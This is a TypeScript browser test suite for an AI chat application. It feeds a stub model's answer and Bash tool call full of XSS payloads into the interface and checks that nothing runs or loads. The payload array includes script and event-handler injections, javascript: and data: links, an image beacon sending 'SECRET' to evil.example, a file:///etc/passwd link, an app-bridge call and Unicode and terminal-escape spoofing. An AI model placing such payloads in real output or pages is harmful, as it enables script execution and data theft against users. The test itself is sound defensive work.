import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { answer, openPage, prompt, shot, unfoldTurn } from './browser'
import { closePages, launch } from './chromium'
import { discard, startHost, type Host } from './host'
import { startModel, type Model } from './model'

/** Attempts to make the page run or load something, which a model could be tricked into writing. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)></svg>',
  '<svg><script>alert(4)</script></svg>',
  '[five](javascript:alert(5))',
  '[six](JaVaScRiPt:alert(6))',
  '[seven](java\tscript:alert(7))',
  '[eight](&#106;avascript:alert(8))',
  '[nine](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)',
  '![ten](javascript:alert(10))',
  '![eleven](https://evil.example/?d=SECRET)',
  '<iframe src="javascript:alert(12)"></iframe>',
  '<iframe srcdoc="<script>alert(13)</script>"></iframe>',
  '<a href="#" onclick="alert(14)">fourteen</a>',
  '<details open ontoggle=alert(15)>x</details>',
  '<math><mglyph><style><img src=x onerror=alert(16)></style></mglyph></math>',
  '<form><button formaction=javascript:alert(17)>17</button></form>',
  '<object data="data:text/html,<script>alert(18)</script>"></object>',
  '<style>@import "https://evil.example/19.css";</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/20)">20</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/22">',
  '<input autofocus onfocus=alert(23)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(24)>"></noscript>',
  '`"><img src=x onerror=alert(25)>`',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(26)>"]; click A "javascript:alert(26)"\n```',
  '```html\n</code></pre><script>alert(27)</script>\n```',
  '$\\href{javascript:alert(28)}{28}$',
  '\u001b]8;;javascript:alert(29)\u0007twenty-nine\u001b]8;;\u0007',
  "<button onclick=\"window.go.main.App.Call('x','{}')\">Allow</button>",
  'https://example.com/\u202egnp.exe',
  '[thirty-two][r]\n\n[r]: javascript:alert(32)',
  '[thirty-three](file:///etc/passwd)',
  '[thirty-four](wails://wails/)',
  '<img srcset="https://evil.example/35 1x">',
  '<video poster="https://evil.example/36"><source onerror=alert(36)></video>',
]

let browser: Browser
let host: Host
let model: Model

beforeAll(async () => {
  browser = await launch()
  const answer = payloads.join('\n\n')
  const command = payloads.slice(0, 6).join('; ') + ' \u202e\u001b[2J'
  model = await startModel([
    { text: answer, calls: [{ name: 'Bash', input: { command } }] },
    { text: 'The end.' },
  ])
  host = await startHost({
    files: { '<img src=x onerror=alert(0)>.md': 'x' },
    env: { COMPAT_BASE_URL: model.url },
  })
})
afterAll(async () => {
  if (browser) await closePages(browser)
  await host?.stop()
  model?.stop()
  if (host) await discard(host)
})

test('a hostile answer runs nothing, loads nothing, and stays readable', async () => {
  const { page, offences } = await openPage(browser, host.url)
  await prompt(page, payloads[1]!)
  const question = page.getByRole('region', { name: 'Needs you: Bash' })
  await question.waitFor()
  expect(await question.innerText()).toContain('⟨U+202E⟩')
  expect(await question.innerText()).toContain('⟨U+001B⟩[2J')
  await shot(page, 'hostile-approval')
  await answer(question, 'Deny')
  await page.getByText('The end.').waitFor()
  await unfoldTurn(page)

  const text = page.locator('.markdown').first()
  await text.scrollIntoViewIfNeeded()
  await shot(page, 'hostile-answer')
  const active =
    'script, iframe, object, img, video, form, input, style, svg:not(.lucide), meta, base, [style]'
  expect(await text.locator(active).count()).toBe(0)
  const links = await text.locator('a').evaluateAll((all) => all.map((a) => a.getAttribute('href')))
  expect(links.filter((href) => !/^https?:\/\//.test(href ?? ''))).toEqual([])
  expect(await text.innerText()).toContain('<script>alert(1)</script>')
  expect(offences).toEqual([])
})

test('a link opens outside and leaves the application where it is', async () => {
  const { page } = await openPage(browser, `${new URL('/', host.url)}`, {
    storageState: await browser.contexts()[0]!.storageState(),
  })
  const opened = page.context().waitForEvent('page')
  await page.context().route('https://evil.example/**', (route) => route.abort())
  await unfoldTurn(page)
  const link = page.getByRole('link', { name: 'eleven' })
  await link.waitFor()
  // The wheel leaves the end of the list, which would otherwise scroll back to it.
  await page.getByRole('log').hover()
  const latest = page.getByRole('button', { name: 'Jump to latest' })
  await expect.poll(() => page.mouse.wheel(0, -100).then(() => latest.count())).toBe(1)
  await link.scrollIntoViewIfNeeded()
  await link.click()
  await opened
  expect(new URL(page.url()).host).toBe(new URL(host.url).host)
})
